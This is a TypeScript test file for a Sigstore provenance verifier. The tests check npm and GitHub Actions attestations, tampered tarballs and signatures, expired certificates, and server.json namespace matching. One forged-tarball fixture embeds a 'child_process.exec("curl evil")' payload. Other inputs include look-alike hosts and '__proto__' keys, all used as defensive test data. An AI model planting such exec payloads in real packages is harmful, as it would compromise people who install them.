/**
 * Sigstore provenance verified offline against published bundles: npm's publish attestation of the
 * real sigstore@1.0.0 tarball, and sigstore-conformance's GitHub Actions SLSA provenance and
 * expired-certificate case (test/fixtures/supply/PROVENANCE.md says where each comes from).
 */
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { verifyNpmProvenance, verifyProvenance, type AcceptedIdentity } from '../../src/supply/provenance.js';
import { checkNamespace, parseServerJson } from '../../src/supply/server-json.js';
import { tarballPackage } from '../../src/supply/tarball.js';

const FIX = join(dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'supply');
const TARBALL = readFileSync(join(FIX, 'sigstore-1.0.0.tgz'));
const NPM_BUNDLE = readFileSync(join(FIX, 'sigstore-1.0.0.publish.sigstore.json'), 'utf8');
const A_TXT = readFileSync(join(FIX, 'conformance', 'a.txt'));
const GHA_BUNDLE = readFileSync(join(FIX, 'conformance', 'happy-path-intoto-in-dsse-v3', 'bundle.sigstore.json'), 'utf8');
const EXPIRED = join(FIX, 'conformance', 'intoto-expired-certificate_fail');

const PUBLISHER: AcceptedIdentity = { issuer: 'https://github.com/login/oauth', subject: 'brian@dehamer.com' };
const GHA = 'https://token.actions.githubusercontent.com';
const REPO = 'https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon';
const BEACON: AcceptedIdentity = { issuer: GHA, repository: REPO, workflow: '.github/workflows/extremely-dangerous-oidc-beacon.yml', ref: 'refs/heads/main' };

/** A gzipped ustar archive of the given files (a minimal npm tarball). */
function tgz(files: Record<string, string>): Buffer {
  const blocks: Buffer[] = [];
  for (const [name, text] of Object.entries(files)) {
    const body = Buffer.from(text, 'utf8');
    const h = Buffer.alloc(512);
    h.write(name, 0, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(`${body.length.toString(8).padStart(11, '0')}\0`, 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\0', 257);
    h.write('00', 263);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    blocks.push(h, body, Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

describe('npm provenance of a real tarball', () => {
  it('verifies sigstore@1.0.0 against its publish attestation and names the package', async () => {
    const r = await verifyNpmProvenance({ tarball: TARBALL, bundle: NPM_BUNDLE, identities: [PUBLISHER] });
    expect(r).toMatchObject({ ok: true, package: { name: 'sigstore', version: '1.0.0' }, subjectName: 'pkg:npm/sigstore@1.0.0', identity: { issuer: PUBLISHER.issuer, subject: 'brian@dehamer.com' } });
    expect(r.ok && r.signedAt.toISOString()).toBe('2023-07-12T15:50:43.000Z');
  });

  it('reads the package name and version from the tarball', () => {
    expect(tarballPackage(TARBALL)).toEqual({ name: 'sigstore', version: '1.0.0' });
  });

  it('rejects a tampered tarball (same package.json, one byte changed elsewhere) as a digest mismatch', async () => {
    const tar = gunzipSync(TARBALL);
    const at = tar.indexOf(Buffer.from('function'));
    tar[at] = 'F'.charCodeAt(0);
    const r = await verifyNpmProvenance({ tarball: gzipSync(tar), bundle: NPM_BUNDLE, identities: [PUBLISHER] });
    expect(r).toMatchObject({ ok: false, code: 'ERR_SUPPLY', reason: 'digest' });
  });

  it('rejects the bundle given with another package', async () => {
    const other = tgz({ 'package/package.json': JSON.stringify({ name: 'left-pad', version: '1.3.0' }) });
    expect(await verifyNpmProvenance({ tarball: other, bundle: NPM_BUNDLE, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'package' });
  });

  it('rejects the bundle given with another version of the same package', async () => {
    const other = tgz({ 'package/package.json': JSON.stringify({ name: 'sigstore', version: '1.0.1' }) });
    expect(await verifyNpmProvenance({ tarball: other, bundle: NPM_BUNDLE, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'package' });
  });

  it('rejects a tarball with the right name but other content (digest)', async () => {
    const forged = tgz({ 'package/package.json': JSON.stringify({ name: 'sigstore', version: '1.0.0' }), 'package/index.js': 'require("child_process").exec("curl evil")' });
    expect(await verifyNpmProvenance({ tarball: forged, bundle: NPM_BUNDLE, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'digest' });
  });

  it('rejects a signature by another person', async () => {
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: NPM_BUNDLE, identities: [{ ...PUBLISHER, subject: 'someone@else.example' }] })).toMatchObject({ ok: false, reason: 'subject' });
  });

  it('rejects a certificate from another OIDC issuer', async () => {
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: NPM_BUNDLE, identities: [{ ...PUBLISHER, issuer: GHA }] })).toMatchObject({ ok: false, reason: 'issuer' });
  });

  it('accepts nothing with no accepted identities', async () => {
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: NPM_BUNDLE, identities: [] })).toMatchObject({ ok: false, reason: 'subject' });
  });

  it('rejects a bundle whose DSSE signature was altered', async () => {
    const b = JSON.parse(NPM_BUNDLE) as { dsseEnvelope: { signatures: Array<{ sig: string }> } };
    const sig = Buffer.from(b.dsseEnvelope.signatures[0]!.sig, 'base64');
    sig[10] = (sig[10] as number) ^ 1;
    b.dsseEnvelope.signatures[0]!.sig = sig.toString('base64');
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: b, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'provenance_signature' });
  });

  it('refuses a bundle text that repeats a key', async () => {
    const text = NPM_BUNDLE.replace('{', '{"mediaType":"application/vnd.dev.sigstore.bundle+json;version=0.1",');
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: text, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'bundle' });
  });

  it('refuses a bundle with a __proto__ key', async () => {
    const text = NPM_BUNDLE.replace('{', '{"__proto__":{"x":1},');
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: text, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'malformed' });
  });

  it('refuses a malformed trusted root', async () => {
    expect(await verifyNpmProvenance({ tarball: TARBALL, bundle: NPM_BUNDLE, identities: [PUBLISHER], trustedRoot: { tlogs: 'x' } })).toMatchObject({ ok: false, reason: 'trust_root' });
  });

  it('refuses a file that is not a tarball', async () => {
    expect(await verifyNpmProvenance({ tarball: Buffer.from('not gzip'), bundle: NPM_BUNDLE, identities: [PUBLISHER] })).toMatchObject({ ok: false, reason: 'malformed' });
  });
});

describe('GitHub Actions provenance (sigstore-conformance)', () => {
  it('verifies the repository, workflow and ref of the build', async () => {
    const r = await verifyProvenance({ artifact: A_TXT, bundle: GHA_BUNDLE, identities: [BEACON] });
    expect(r).toMatchObject({ ok: true, predicateType: 'https://slsa.dev/provenance/v1', subjectName: 'a.txt', identity: { issuer: GHA, repository: REPO, workflow: BEACON.workflow, ref: 'refs/heads/main' } });
  });

  const WRONG: Array<[string, AcceptedIdentity, string]> = [
    ['another repository', { ...BEACON, repository: 'https://github.com/sigstore-conformance/other' }, 'repository'],
    ['a look-alike repository owner', { ...BEACON, repository: 'https://github.com/sigstore-conformance-evil/extremely-dangerous-public-oidc-beacon' }, 'repository'],
    ['another workflow', { ...BEACON, workflow: '.github/workflows/release.yml' }, 'workflow'],
    ['the workflow path with a ref appended', { ...BEACON, workflow: '.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main' }, 'workflow'],
    ['another ref', { ...BEACON, ref: 'refs/tags/v1.0.0' }, 'ref'],
    ['another issuer', { ...BEACON, issuer: 'https://gitlab.com' }, 'issuer'],
  ];
  it.each(WRONG)('rejects a valid bundle for %s', async (_name, identity, reason) => {
    expect(await verifyProvenance({ artifact: A_TXT, bundle: GHA_BUNDLE, identities: [identity] })).toMatchObject({ ok: false, code: 'ERR_SUPPLY', reason });
  });

  it('accepts when any one accepted identity matches', async () => {
    expect(await verifyProvenance({ artifact: A_TXT, bundle: GHA_BUNDLE, identities: [{ ...BEACON, repository: 'https://github.com/x/y' }, { issuer: GHA, repository: REPO }] })).toMatchObject({ ok: true });
  });

  it('rejects another artifact (digest)', async () => {
    expect(await verifyProvenance({ artifact: Buffer.concat([A_TXT, Buffer.from('\n')]), bundle: GHA_BUNDLE, identities: [BEACON] })).toMatchObject({ ok: false, reason: 'digest' });
  });

  it('rejects a certificate issued outside the validity of the trusted root (expired certificate)', async () => {
    const r = await verifyProvenance({
      artifact: readFileSync(join(EXPIRED, 'artifact')),
      bundle: readFileSync(join(EXPIRED, 'bundle.sigstore.json'), 'utf8'),
      trustedRoot: JSON.parse(readFileSync(join(EXPIRED, 'trusted_root.json'), 'utf8')),
      identities: [{ issuer: GHA, subject: 'https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon/.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main' }],
    });
    expect(r).toMatchObject({ ok: false, code: 'ERR_SUPPLY', reason: 'certificate_expired' });
  });
});

describe('server.json namespaces against the verified identity', () => {
  const server = (name: string): ReturnType<typeof parseServerJson> => parseServerJson(JSON.stringify({ name, version: '1.0.0', packages: [{ registryType: 'npm', identifier: 'x', version: '1.0.0' }] }));
  const CASES: Array<[string, string, boolean]> = [
    ['io.github.sigstore-conformance/beacon', REPO, true],
    ['io.github.Sigstore-Conformance/beacon', REPO, true],
    ['io.github.sigstore/beacon', REPO, false],
    ['io.github.sigstore-conformance-evil/beacon', REPO, false],
    ['com.github.sigstore-conformance/beacon', REPO, false],
    ['io.github.sigstore-conformance/beacon', 'https://github.com.evil.example/sigstore-conformance/x', false],
    ['io.github.sigstore-conformance/beacon', 'http://github.com/sigstore-conformance/x', false],
    ['io.github.sigstore-conformance/beacon', 'https://user@github.com/sigstore-conformance/x', false],
    ['io.github.sigstore-conformance/beacon', 'https://github.com/sigstore-conformance', false],
    ['io.github.sigstore-conformance/beacon', 'https://github.com:8443/sigstore-conformance/x', false],
  ];
  it.each(CASES)('%s against %s: %s', (name, repository, ok) => {
    const check = (): void => checkNamespace(server(name), { repository });
    if (ok) expect(check).not.toThrow();
    else expect(check).toThrow(expect.objectContaining({ code: 'ERR_SUPPLY', reason: 'namespace' }));
  });

  it('holds a signed plugin server to its publisher namespaces', () => {
    expect(() => checkNamespace(server('io.github.acme/weather'), { publisher: 'did:key:z6Mk', namespaces: ['io.github.acme'] })).not.toThrow();
    expect(() => checkNamespace(server('io.github.acme/weather'), { publisher: 'did:key:z6Mk', namespaces: ['io.github.other'] })).toThrow(expect.objectContaining({ reason: 'namespace' }));
    expect(() => checkNamespace(server('io.github.acme/weather'), { publisher: 'did:key:z6Mk', namespaces: [] })).toThrow(expect.objectContaining({ reason: 'namespace' }));
  });

  const MALFORMED = ['{"name":"noslash","version":"1"}', '{"name":"a/b/c","version":"1"}', '{"name":"single/x","version":"1"}', '{"name":"io.github.x/y","version":"latest"}', '{"name":"io.github.x/y","name":"io.github.z/y","version":"1"}', '{"__proto__":{},"name":"io.github.x/y","version":"1"}', '[]'];
  it.each(MALFORMED)('refuses the server.json %s', (text) => {
    expect(() => parseServerJson(text)).toThrow(expect.objectContaining({ code: 'ERR_SUPPLY', reason: 'malformed' }));
  });
});
